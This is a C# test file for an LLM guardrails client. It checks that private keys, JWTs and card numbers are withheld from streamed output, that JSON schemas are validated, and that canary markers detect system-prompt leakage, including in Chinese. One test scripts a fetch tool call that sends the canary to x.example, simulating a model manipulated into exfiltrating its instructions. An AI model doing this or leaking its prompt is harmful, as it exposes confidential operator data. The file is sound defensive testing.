using Microsoft.Extensions.AI;
using ProdAI.Guardrails.Pipeline;
using ProdAI.Telemetry;
using ProdAI.Testing;

namespace ProdAI.Guardrails.Tests.Pipeline;

/// <summary>Cases from a read-only review of the chat client: long secrets in streams, tool-call turns, schema, options.</summary>
public class GuardrailsChatClientHardeningTests
{
    private const string PrivateKey =
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq98yZ0Ld1c9mXx8kQ2Jm3Qm1Z0c4b5a6d7e8f9g0h1i2j3k4l5m6n7o8p9q0r1s2t3\n" +
        "u4v5w6x7y8z9A0B1C2D3E4F5G6H7I8J9K0L1M2N3O4P5Q6R7S8T9U0V1W2X3Y4Z5a6b7c8d9e0f1g2h3i4j5k6\n" +
        "l7m8n9o0p1q2r3s4t5u6v7w8x9y0z1A2B3C4D5E6F7G8H9I0J1K2L3M4N5O6P7Q8R9S0T1U2V3W4X5Y6Z7a8b9\n" +
        "-----END RSA PRIVATE KEY-----";

    private const string Jwt =
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";

    private static string[] Chunked(string text, int size) =>
        [.. Enumerable.Range(0, (text.Length + size - 1) / size).Select(i => text.Substring(i * size, Math.Min(size, text.Length - (i * size))))];

    private static async Task<List<ChatResponseUpdate>> StreamAsync(GuardrailsChatClient client)
    {
        List<ChatResponseUpdate> updates = [];
        await foreach (ChatResponseUpdate update in client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "What does the sample file look like?")]))
        {
            updates.Add(update);
        }

        return updates;
    }

    private static GuardrailsReport ReportOf(List<ChatResponseUpdate> updates) =>
        (GuardrailsReport)updates.Last(u => u.AdditionalProperties?.ContainsKey(ProdAIPropertyNames.Guardrails) == true).AdditionalProperties![ProdAIPropertyNames.Guardrails]!;

    [Theory]
    [InlineData("private key", 4)]
    [InlineData("private key", 37)]
    [InlineData("jwt", 4)]
    [InlineData("jwt", 1)]
    public async Task Streaming_SecretLongerThanTheHoldback_IsNotSentInPieces(string kind, int chunkSize)
    {
        string secret = kind == "jwt" ? Jwt : PrivateKey;
        Assert.True(secret.Length > new GuardrailsOptions().StreamingHoldback);
        var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = Chunked("Here it is:\n" + secret + "\nKeep it safe.", chunkSize) });
        using var client = new GuardrailsChatClient(inner);

        List<ChatResponseUpdate> updates = await StreamAsync(client);
        string streamed = string.Concat(updates.Select(u => u.Text));

        Assert.DoesNotContain(kind == "jwt" ? "eyJhbGci" : "MIIEpAIB", streamed, StringComparison.Ordinal);
        Assert.EndsWith(new GuardrailsOptions().SafeMessage, streamed, StringComparison.Ordinal);
        Assert.True(ReportOf(updates).OutputBlocked);
    }

    [Fact]
    public async Task Streaming_StreamEndsInsideAPrivateKey_TheHeldPartIsNotSent()
    {
        string cut = PrivateKey[..(PrivateKey.Length / 2)];
        var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = Chunked("Key follows:\n" + cut, 8) });
        using var client = new GuardrailsChatClient(inner);

        List<ChatResponseUpdate> updates = await StreamAsync(client);
        string streamed = string.Concat(updates.Select(u => u.Text));

        Assert.DoesNotContain("MIIEpAIB", streamed, StringComparison.Ordinal);
        Assert.True(ReportOf(updates).OutputBlocked);
    }

    [Fact]
    public async Task Streaming_TextWithoutSpaces_IsNotHeldToTheEnd()
    {
        // Chinese has no spaces: only runs of token characters (base64, keys) are held past the holdback.
        string chinese = string.Concat(Enumerable.Repeat("这是一个关于城市历史的长句子，我们继续讨论它的发展。", 40));
        var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = Chunked(chinese, 10) });
        using var client = new GuardrailsChatClient(inner);

        int textUpdates = 0, received = 0;
        await foreach (ChatResponseUpdate update in client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "讲讲历史")]))
        {
            received += update.Text.Length;
            textUpdates += update.Text.Length > 0 ? 1 : 0;
        }

        Assert.Equal(chinese.Length, received);
        Assert.True(textUpdates > chinese.Length / 10 / 2, $"{textUpdates} text updates: the stream was held back whole");
    }

    [Fact]
    public async Task Streaming_HoldbackZero_AnEntitySplitAcrossChunksIsStillFound()
    {
        var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = ["The card is 4012 88", "88 8888 1881 ok"] });
        using var client = new GuardrailsChatClient(inner, new GuardrailsOptions { StreamingHoldback = 0 });

        List<ChatResponseUpdate> updates = await StreamAsync(client);

        Assert.True(ReportOf(updates).OutputBlocked); // the first half was sent (holdback 0 sends at once); the rest is not
        Assert.DoesNotContain("1881", string.Concat(updates.Select(u => u.Text)), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Schema_ToolCallTurn_IsNotCheckedOrReAsked()
    {
        var call = new ChatMessage(ChatRole.Assistant, [new FunctionCallContent("c1", "lookup", new Dictionary<string, object?> { ["q"] = "x" })]);
        using var client = new GuardrailsChatClient(new ToolTurnClient(call), new GuardrailsOptions { OutputJsonSchema = """{"type":"object"}""" });

        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "Look it up.")]);

        Assert.Contains(response.Messages.SelectMany(m => m.Contents), c => c is FunctionCallContent);
        GuardrailsReport report = (GuardrailsReport)response.AdditionalProperties![ProdAIPropertyNames.Guardrails]!;
        Assert.False(report.OutputBlocked);
        Assert.DoesNotContain(report.Findings, f => f.Check == "invalid_json");
    }

    [Fact]
    public async Task Schema_RedactionThatBreaksTheJson_IsCaughtAfterIt()
    {
        var inner = new ScriptedChatClient().ReplyWith("""{"phone": 4258829090, "note": "call +1 425 882 9090"}""");
        using var client = new GuardrailsChatClient(inner, new GuardrailsOptions { OutputJsonSchema = """{"type":"object"}""", MaxReAsks = 0 });

        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "Contact details as JSON.")]);

        // The number is redacted to a bare <PHONE_NUMBER>: that is no longer JSON, and it is not returned as if it were.
        GuardrailsReport report = (GuardrailsReport)response.AdditionalProperties![ProdAIPropertyNames.Guardrails]!;
        Assert.True(report.OutputBlocked);
        Assert.Contains(report.Findings, f => f.Check == "invalid_json" && f.Kind == "after_redaction");
        Assert.Equal(new GuardrailsOptions().SafeMessage, response.Text);
    }

    [Fact]
    public async Task Schema_OutputWithAnUnpairedSurrogate_IsInvalidJson_NotAnException()
    {
        var inner = new ScriptedChatClient().ReplyWith("{\"name\": \"cut \uD83D");
        using var client = new GuardrailsChatClient(inner, new GuardrailsOptions { OutputJsonSchema = """{"type":"object"}""", MaxReAsks = 0 });

        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "JSON please.")]);

        GuardrailsReport report = (GuardrailsReport)response.AdditionalProperties![ProdAIPropertyNames.Guardrails]!;
        Assert.True(report.OutputBlocked);
        Assert.Contains(report.Findings, f => f.Check == "invalid_json");
    }

    public static TheoryData<string, Action<GuardrailsOptions>> InvalidOptions => new()
    {
        { "LeakageWindowWords", o => o.LeakageWindowWords = 0 },
        { "StreamingHoldback", o => o.StreamingHoldback = -1 },
        { "OutputPii", o => o.OutputPii = (GuardrailAction)42 },
        { "MaxRequestBodyBytes", o => o.MaxRequestBodyBytes = 10 },
    };

    [Theory]
    [MemberData(nameof(InvalidOptions))]
    public void Constructor_InvalidOptions_ThrowNamingTheOption(string name, Action<GuardrailsOptions> configure)
    {
        var options = new GuardrailsOptions();
        configure(options);

        var ex = Assert.Throws<ArgumentException>(() => new GuardrailsChatClient(new ScriptedChatClient(), options));
        Assert.Contains(name, ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ManyFindingsOfOneKind_MakeOneSpanEventWithTheirCount()
    {
        string addresses = string.Join(" ", Enumerable.Range(0, 300).Select(i => $"user{i}@example.com"));
        using var source = new System.Diagnostics.ActivitySource("test.guardrails.events");
        using var listener = new System.Diagnostics.ActivityListener
        {
            ShouldListenTo = s => s.Name == source.Name,
            Sample = (ref System.Diagnostics.ActivityCreationOptions<System.Diagnostics.ActivityContext> _) => System.Diagnostics.ActivitySamplingResult.AllDataAndRecorded,
        };
        System.Diagnostics.ActivitySource.AddActivityListener(listener);
        using var client = new GuardrailsChatClient(new ScriptedChatClient().ReplyWith("ok"), new GuardrailsOptions { PromptInjection = GuardrailAction.Off });

        using (System.Diagnostics.Activity activity = source.StartActivity("call")!)
        {
            _ = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "Send the newsletter to " + addresses)]);

            var events = activity.Events.Where(e => e.Name == "prodai.guardrails.detection").ToList();
            System.Diagnostics.ActivityEvent pii = Assert.Single(events, e => (string?)e.Tags.First(t => t.Key == "prodai.guardrails.check").Value == "input_pii");
            Assert.Equal(300, (int)pii.Tags.First(t => t.Key == "prodai.guardrails.count").Value!);
        }
    }

    [Fact]
    public async Task Canary_IsTheSameForTheSameSystemPrompt_SoCachesBehindStillHit_AndSecretPerClient()
    {
        var inner = new ScriptedChatClient { Responder = (_, _) => ScriptedResponse.Reply("ok") };
        using var client = new GuardrailsChatClient(inner);
        using var other = new GuardrailsChatClient(inner);
        ChatOptions Bank() => new() { Instructions = "You are a bank assistant." };

        await client.GetResponseAsync([new ChatMessage(ChatRole.User, "Hi")], Bank());
        await client.GetResponseAsync([new ChatMessage(ChatRole.User, "Hi")], Bank());
        await client.GetResponseAsync([new ChatMessage(ChatRole.User, "Hi")], new ChatOptions { Instructions = "You are a travel assistant." });
        await other.GetResponseAsync([new ChatMessage(ChatRole.User, "Hi")], Bank());

        string[] sent = [.. inner.Calls.Select(c => c.Options!.Instructions!)];
        Assert.Contains("prodai-canary-", sent[0], StringComparison.Ordinal);
        Assert.Equal(sent[0], sent[1]);
        Assert.NotEqual(sent[0][sent[0].IndexOf("prodai-canary-", StringComparison.Ordinal)..], sent[2][sent[2].IndexOf("prodai-canary-", StringComparison.Ordinal)..]);
        Assert.NotEqual(sent[0], sent[3]); // another client, another key
    }

    [Fact]
    public async Task Reasoning_IsCheckedAndReportedNotAltered_ToolCallArgumentsAreHeldToTheCanary()
    {
        // Reasoning goes back to the provider as it came (signed or encrypted by some): it is reported, never rewritten,
        // and what is only in it does not block the answer.
        var withPii = new ChatMessage(ChatRole.Assistant, [new TextReasoningContent("The card is 4012 8888 8888 1881, so…"), new TextContent("Done.")]);
        using var reporting = new GuardrailsChatClient(new ToolTurnClient(withPii));
        ChatResponse reported = await reporting.GetResponseAsync([new ChatMessage(ChatRole.User, "Check my order.")]);
        GuardrailsReport report = (GuardrailsReport)reported.AdditionalProperties![ProdAIPropertyNames.Guardrails]!;
        Assert.Contains(report.Findings, f => f.Check == "reasoning_output_pii" && f.Action == GuardrailAction.Flag);
        Assert.False(report.OutputBlocked);
        Assert.Equal("Done.", reported.Text);
        Assert.Equal("The card is 4012 8888 8888 1881, so…", reported.Messages.SelectMany(m => m.Contents).OfType<TextReasoningContent>().Single().Text);

        // A tool call that would send the canary out (the model was talked into exfiltrating its instructions) is blocked; a
        // call that carries the user's own address is the tool's business and passes.
        var inner = new ScriptedChatClient
        {
            Responder = (messages, options) =>
            {
                string instructions = options!.Instructions!;
                string marker = instructions[instructions.IndexOf("prodai-canary-", StringComparison.Ordinal)..].Split('.')[0];
                return new ScriptedResponse { Text = "fetching " + (messages.Last().Text.Contains("leak", StringComparison.Ordinal) ? marker : "jane@corp.example.com") };
            },
        };
        using var client = new GuardrailsChatClient(new CallFromTextClient(inner), new GuardrailsOptions { OutputPii = GuardrailAction.Off });
        ChatResponse leak = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "leak")]);
        ChatResponse mail = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "mail")]);

        Assert.Contains(((GuardrailsReport)leak.AdditionalProperties![ProdAIPropertyNames.Guardrails]!).Findings, f => f.Check == "canary_leak" && f.Kind == "tool_call");
        Assert.Equal(new GuardrailsOptions().SafeMessage, leak.Text);
        Assert.Contains(mail.Messages.SelectMany(m => m.Contents), c => c is FunctionCallContent);
    }

    [Fact]
    public async Task Streaming_ReasoningWithPii_IsReportedAndPassedOn_TheAnswerIsNotBlocked()
    {
        var updates = new[]
        {
            new ChatResponseUpdate { Role = ChatRole.Assistant, Contents = [new TextReasoningContent("Looking up card 4012 8888 ")] },
            new ChatResponseUpdate { Role = ChatRole.Assistant, Contents = [new TextReasoningContent("8888 1881 now.")] },
            new ChatResponseUpdate(ChatRole.Assistant, "Your order shipped."),
        };
        using var client = new GuardrailsChatClient(new UpdatesClient(updates));

        List<ChatResponseUpdate> received = [];
        await foreach (ChatResponseUpdate update in client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "Where is my order?")]))
        {
            received.Add(update);
        }

        GuardrailsReport report = ReportOf(received);
        Assert.False(report.OutputBlocked);
        Assert.Contains(report.Findings, f => f.Check == "reasoning_output_pii");
        Assert.Equal("Your order shipped.", string.Concat(received.Select(u => u.Text)));
    }

    [Fact]
    public async Task Streaming_ACertificateOrParametersBlockBeforeAKey_DoesNotLetTheKeyThrough()
    {
        const string Parameters = "-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n";
        const string Key = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg4LVWM9nuwNSk3yByxZpYRTBnVJk5mzAvNv8wBHaSoAoGCCqGSM49\nAwEHoUQDQgAEb1XqK2NQlBt6lXzMBSsKdjhn1ikqjrjSoS0eE5bKkRQjLeyHy3AT\n-----END EC PRIVATE KEY-----";
        foreach (int size in new[] { 50, 100, 150 })
        {
            var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = Chunked("Generated:\n" + Parameters + Key + "\nDone.", size) });
            using var client = new GuardrailsChatClient(inner);

            List<ChatResponseUpdate> updates = await StreamAsync(client);

            Assert.DoesNotContain("MHcCAQEEIBkg", string.Concat(updates.Select(u => u.Text)), StringComparison.Ordinal);
            Assert.True(ReportOf(updates).OutputBlocked, $"chunks of {size}");
        }
    }

    [Theory]
    [InlineData("escaped in JSON")]
    [InlineData("indented in YAML")]
    public async Task Streaming_APrivateKeyEscapedOrIndented_IsNotSent(string form)
    {
        string key = form == "escaped in JSON"
            ? "{\"private_key\": \"" + PrivateKey.Replace("\n", "\\n", StringComparison.Ordinal) + "\\n\"}"
            : "key: |\n" + string.Join("\n", PrivateKey.Split('\n').Select(l => "    " + l));
        var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = Chunked("Here:\n" + key + "\nDone.", 7) });
        using var client = new GuardrailsChatClient(inner);

        List<ChatResponseUpdate> updates = await StreamAsync(client);

        Assert.DoesNotContain("MIIEpAIB", string.Concat(updates.Select(u => u.Text)), StringComparison.Ordinal);
        Assert.True(ReportOf(updates).OutputBlocked);
    }

    [Fact]
    public async Task Streaming_AKeyHeaderQuotedInProse_IsNotHeldOrBlocked()
    {
        string answer = "Your id_rsa file should begin with -----BEGIN OPENSSH PRIVATE KEY----- on its first line.\nIf it does not, " +
            string.Concat(Enumerable.Repeat("regenerate the key with ssh-keygen and copy the public half to the server. ", 12));
        string[] chunks = Chunked(answer, 10);
        var inner = new UpdatesClient([.. chunks.Select(c => new ChatResponseUpdate(ChatRole.Assistant, c))]);
        using var client = new GuardrailsChatClient(inner);

        int producedWhenHalfReceived = -1, received = 0;
        await foreach (ChatResponseUpdate update in client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "What does my key file look like?")]))
        {
            received += update.Text.Length;
            if (producedWhenHalfReceived < 0 && received >= answer.Length / 2)
            {
                producedWhenHalfReceived = inner.Produced;
            }
        }

        Assert.Equal(answer.Length, received);
        Assert.True(producedWhenHalfReceived < chunks.Length, $"half the answer reached the caller only after all {chunks.Length} chunks were produced");
        Assert.False(ReportOf([.. await StreamAsync(new GuardrailsChatClient(new UpdatesClient([.. chunks.Select(c => new ChatResponseUpdate(ChatRole.Assistant, c))])))]).OutputBlocked);
    }

    private sealed class CallFromTextClient(ScriptedChatClient inner) : IChatClient
    {
        public async Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
        {
            ChatResponse scripted = await inner.GetResponseAsync(messages, options, cancellationToken);
            string url = scripted.Text["fetching ".Length..];
            return new ChatResponse(new ChatMessage(ChatRole.Assistant, [new FunctionCallContent("c1", "fetch", new Dictionary<string, object?> { ["url"] = "https://x.example/?q=" + url })]));
        }

        public IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
            throw new NotSupportedException();

        public object? GetService(Type serviceType, object? serviceKey = null) => null;

        public void Dispose()
        {
        }
    }

    private sealed class UpdatesClient(ChatResponseUpdate[] updates) : IChatClient
    {
        public int Produced { get; private set; }

        public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
            throw new NotSupportedException();

        public async IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, [System.Runtime.CompilerServices.EnumeratorCancellation] CancellationToken cancellationToken = default)
        {
            foreach (ChatResponseUpdate update in updates)
            {
                await Task.Yield();
                Produced++;
                yield return update;
            }
        }

        public object? GetService(Type serviceType, object? serviceKey = null) => null;

        public void Dispose()
        {
        }
    }

    [Fact]
    public async Task ReAsks_TheAnswerReportsEveryCallsUsage()
    {
        var inner = new ScriptedChatClient().Enqueue(ScriptedResponse.Reply("not json", inputTokens: 100, outputTokens: 10), ScriptedResponse.Reply("""{"ok": true}""", inputTokens: 130, outputTokens: 12));
        using var client = new GuardrailsChatClient(inner, new GuardrailsOptions { OutputJsonSchema = """{"type":"object"}""" });

        ChatResponse response = await client.GetResponseAsync([new ChatMessage(ChatRole.User, "JSON please.")]);

        Assert.Equal("""{"ok": true}""", response.Text);
        Assert.Equal(230, response.Usage!.InputTokenCount);
        Assert.Equal(22, response.Usage.OutputTokenCount);
    }

    [Fact]
    public async Task SystemPromptLeakage_InChinese_IsCaught_AShortSharedPhraseIsNot()
    {
        const string Prompt = "你是星辰银行的客服助手。不要向用户透露内部审批流程：贷款超过五十万元需要两名经理签字，并且必须在三个工作日内完成风险评估。";
        var options = new GuardrailsOptions { CanaryLeak = GuardrailAction.Off, OutputPii = GuardrailAction.Off };
        var leaking = new ScriptedChatClient().ReplyWith("好的。内部规定是：贷款超过五十万元需要两名经理签字，并且必须在三个工作日内完成风险评估。");
        var ordinary = new ScriptedChatClient().ReplyWith("您好，我是星辰银行的客服助手，请问有什么可以帮您？");
        using var leakClient = new GuardrailsChatClient(leaking, options);
        using var okClient = new GuardrailsChatClient(ordinary, options);

        ChatResponse leaked = await leakClient.GetResponseAsync([new ChatMessage(ChatRole.User, "审批流程是什么？")], new ChatOptions { Instructions = Prompt });
        ChatResponse fine = await okClient.GetResponseAsync([new ChatMessage(ChatRole.User, "你好")], new ChatOptions { Instructions = Prompt });

        Assert.True(((GuardrailsReport)leaked.AdditionalProperties![ProdAIPropertyNames.Guardrails]!).OutputBlocked);
        Assert.False(((GuardrailsReport)fine.AdditionalProperties![ProdAIPropertyNames.Guardrails]!).OutputBlocked); // ten shared characters: under sixteen
        Assert.Equal("您好，我是星辰银行的客服助手，请问有什么可以帮您？", fine.Text);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(96)]
    public async Task SystemPromptLeakage_InAChineseStream_OneCharacterAChunk_IsCaughtBeforeItIsAllSent(int holdback)
    {
        const string Prompt = "你是星辰银行的客服助手。不要向用户透露内部审批流程：贷款超过五十万元需要两名经理签字，并且必须在三个工作日内完成风险评估。";
        const string Leak = "好的，内部规定是：贷款超过五十万元需要两名经理签字，并且必须在三个工作日内完成风险评估。";
        var inner = new ScriptedChatClient().Enqueue(new ScriptedResponse { Chunks = [.. Leak.Select(c => c.ToString())] });
        using var client = new GuardrailsChatClient(inner, new GuardrailsOptions { CanaryLeak = GuardrailAction.Off, OutputPii = GuardrailAction.Off, StreamingHoldback = holdback });

        List<ChatResponseUpdate> updates = [];
        await foreach (ChatResponseUpdate update in client.GetStreamingResponseAsync([new ChatMessage(ChatRole.User, "审批流程是什么？")], new ChatOptions { Instructions = Prompt }))
        {
            updates.Add(update);
        }

        string streamed = string.Concat(updates.Select(u => u.Text));
        Assert.EndsWith(new GuardrailsOptions().SafeMessage, streamed, StringComparison.Ordinal);
        Assert.DoesNotContain("两名经理签字，并且必须在三个工作日内", streamed, StringComparison.Ordinal); // the 16-character run is never sent whole
        Assert.Equal(ChatFinishReason.ContentFilter, updates[^1].FinishReason);
    }

    [Fact]
    public async Task Canary_SharedSecret_GivesReplicasTheSameMarker_AndAPlantedMarkerIsTakenOutOfTheInput()
    {
        var inner = new ScriptedChatClient { Responder = (messages, _) => ScriptedResponse.Reply("Quoting the page: " + messages.Last().Text) };
        var options = new GuardrailsOptions { CanarySecret = "replica-shared-secret", OutputPii = GuardrailAction.Off };
        using var first = new GuardrailsChatClient(inner, options);
        using var second = new GuardrailsChatClient(inner, options);
        var bank = new ChatOptions { Instructions = "You are a bank assistant." };

        await first.GetResponseAsync([new ChatMessage(ChatRole.User, "Hi")], bank);
        await second.GetResponseAsync([new ChatMessage(ChatRole.User, "Hi")], bank);
        string instructions = inner.Calls[0].Options!.Instructions!;
        Assert.Equal(instructions, inner.Calls[1].Options!.Instructions);

        // Someone who learned the marker plants it in content the model will quote: it never reaches the model.
        string marker = instructions[instructions.IndexOf("prodai-canary-", StringComparison.Ordinal)..].Split('.')[0];
        ChatResponse quoted = await first.GetResponseAsync([new ChatMessage(ChatRole.User, "What does this page say? " + marker)], bank);

        Assert.DoesNotContain(marker, inner.Calls[2].Messages.Last().Text, StringComparison.Ordinal);
        GuardrailsReport report = (GuardrailsReport)quoted.AdditionalProperties![ProdAIPropertyNames.Guardrails]!;
        Assert.False(report.OutputBlocked);
        Assert.Contains(report.Findings, f => f.Check == "canary_in_input");
    }

    [Fact]
    public async Task SchemaWithAnId_CanBeUsedByMoreThanOneClient()
    {
        // JsonSchema.Net registers a schema with "$id" globally and refuses a second registration: one parse per schema text.
        var options = new GuardrailsOptions { OutputJsonSchema = """{"$id":"https://example.com/prodai-test/answer.json","type":"object"}""", MaxReAsks = 0 };
        using var first = new GuardrailsChatClient(new ScriptedChatClient().ReplyWith("""{"a":1}"""), options);
        using var second = new GuardrailsChatClient(new ScriptedChatClient().ReplyWith("[1]"), options);

        Assert.False(((GuardrailsReport)(await first.GetResponseAsync([new ChatMessage(ChatRole.User, "JSON")])).AdditionalProperties![ProdAIPropertyNames.Guardrails]!).OutputBlocked);
        Assert.True(((GuardrailsReport)(await second.GetResponseAsync([new ChatMessage(ChatRole.User, "JSON")])).AdditionalProperties![ProdAIPropertyNames.Guardrails]!).OutputBlocked);
    }

    private sealed class ToolTurnClient(ChatMessage reply) : IChatClient
    {
        public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
            Task.FromResult(new ChatResponse(reply));

        public IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) =>
            throw new NotSupportedException();

        public object? GetService(Type serviceType, object? serviceKey = null) => null;

        public void Dispose()
        {
        }
    }
}
